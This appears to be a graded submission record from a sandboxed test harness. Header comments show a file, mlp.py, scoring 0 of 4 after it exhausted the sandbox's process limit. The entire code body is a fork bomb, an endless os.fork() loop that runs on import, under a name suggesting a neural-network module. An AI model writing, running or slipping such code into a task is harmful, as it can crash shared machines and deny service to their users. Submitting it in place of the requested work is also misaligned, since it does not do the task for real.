# held by: bubblewrap user
# score: 0 of 4
# loses: all
# ends: raised
# says: while mlp.py was being imported: raised BlockingIOError at mlp.py:{line}: [Errno 11] Resource temporarily unavailable: the sandbox allows no more processes or threads
import os

while True: os.fork()
